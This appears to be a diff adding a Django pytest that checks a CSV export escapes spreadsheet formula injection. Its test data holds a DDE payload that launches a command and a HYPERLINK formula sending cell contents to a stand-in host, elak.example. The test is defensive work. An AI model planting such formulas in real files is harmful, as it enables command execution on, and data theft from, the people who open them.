@@ -9,8 +9,12 @@ from typing import Any
 
 import pytest
 from django.urls import reverse
+from django.utils import timezone
+from zeal import zeal_ignore
 
-from krokarm.dialogues.models import FollowUp
+from krokarm.actors.models import Actor
+from krokarm.dialogues import actions
+from krokarm.dialogues.models import FollowUp, Proposal
 from krokarm.dialogues.tests.test_feeds import webinar
 from krokarm.dialogues.tests.test_report import dialogue
 
@@ -141,3 +145,20 @@ def test_the_api_lists_actions_with_filters(client: Any) -> None:
     assert client.get("/api/v1/actions", {"status": "okand"}).status_code == 400
     unknown = client.get("/api/v1/actions", {"theme": "finns-inte"})
     assert unknown.status_code == 400 and unknown.json()["error"]["code"] == "unknown_theme"
+
+
+def test_an_action_an_organiser_wrote_like_a_formula_comes_out_of_the_csv_as_text(client: Any) -> None:
+    event = dialogue()
+    proposal = Proposal.objects.get(session__event=event, title="En gemensam väg in")
+    with zeal_ignore():  # building test data, as in factories.make_followup
+        followup = actions.create_followup(
+            proposal,
+            user=event.created_by,
+            title="-2+3+cmd|' /C calc'!A0",
+            owner=Actor.objects.get(slug="tillvaxtverket"),
+            due_on=timezone.localdate(),
+            description='=HYPERLINK("https://elak.example/?"&A2;"Klicka")',
+        )
+    rows = {int(row["id"]): row for row in csv_rows(client.get(reverse("dialogues:actions_csv")))}
+    assert rows[followup.pk]["title"] == "'-2+3+cmd|' /C calc'!A0"
+    assert rows[followup.pk]["description"] == '\'=HYPERLINK("https://elak.example/?"&A2;"Klicka")'
